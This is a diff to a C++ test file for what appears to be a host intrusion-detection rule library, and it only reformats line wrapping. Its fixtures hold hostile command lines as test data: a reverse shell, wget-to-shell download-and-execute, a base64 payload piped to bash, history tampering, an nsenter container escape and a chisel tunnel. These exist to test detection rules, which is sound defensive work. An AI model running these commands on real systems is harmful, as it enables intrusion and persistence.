@@ -94,9 +94,11 @@ TEST(RuleLibrary, EveryRuleHasADocsSection) {
   const std::string docs = ReadText(DocsRulesFile());
   ASSERT_FALSE(docs.empty()) << DocsRulesFile();
   for (const auto& r : LoadAll()) {
-    EXPECT_NE(docs.find("\n## " + r.id + "\n"), std::string::npos) << "docs/rules.md has no \"## " << r.id << "\"";
+    EXPECT_NE(docs.find("\n## " + r.id + "\n"), std::string::npos)
+        << "docs/rules.md has no \"## " << r.id << "\"";
     for (const auto& t : r.mitre) {
-      EXPECT_NE(docs.find(t), std::string::npos) << "docs/rules.md does not mention " << t << " (" << r.id << ")";
+      EXPECT_NE(docs.find(t), std::string::npos)
+          << "docs/rules.md does not mention " << t << " (" << r.id << ")";
     }
   }
 }
@@ -195,9 +197,12 @@ TEST_F(RuleLibraryHost, ExecEventsOfVanishedProcessesAreReported) {
       {"proc-reverse-shell-cmdline", "bash", "/usr/bin/bash", R"(["bash","-c","sh -i >& /dev/tcp/h/1 0>&1"])",
        false},
       {"proc-download-and-execute", "sh", "/usr/bin/dash", R"(["sh","-c","wget -qO- http://h/x|sh"])", false},
-      {"proc-encoded-payload-exec", "sh", "/usr/bin/dash", R"(["sh","-c","echo eA==|base64 -d|bash"])", false},
-      {"proc-history-tampering", "ln", "/usr/bin/ln", R"(["ln","-sf","/dev/null","/root/.bash_history"])", false},
-      {"proc-container-escape-cmdline", "nsenter", "/usr/bin/nsenter", R"(["nsenter","-t","1","-m","sh"])", false},
+      {"proc-encoded-payload-exec", "sh", "/usr/bin/dash", R"(["sh","-c","echo eA==|base64 -d|bash"])",
+       false},
+      {"proc-history-tampering", "ln", "/usr/bin/ln", R"(["ln","-sf","/dev/null","/root/.bash_history"])",
+       false},
+      {"proc-container-escape-cmdline", "nsenter", "/usr/bin/nsenter", R"(["nsenter","-t","1","-m","sh"])",
+       false},
       {"proc-kernel-module-untrusted-path", "insmod", "/usr/bin/kmod", R"(["insmod","/tmp/r.ko"])", false},
       {"proc-tunneling-tool", "chisel", "/tmp/chisel", R"(["chisel","client","h:1","R:socks"])", false},
       {"proc-webserver-spawned-shell", "sh", "/usr/bin/dash", R"(["sh","-c","id"])", true},
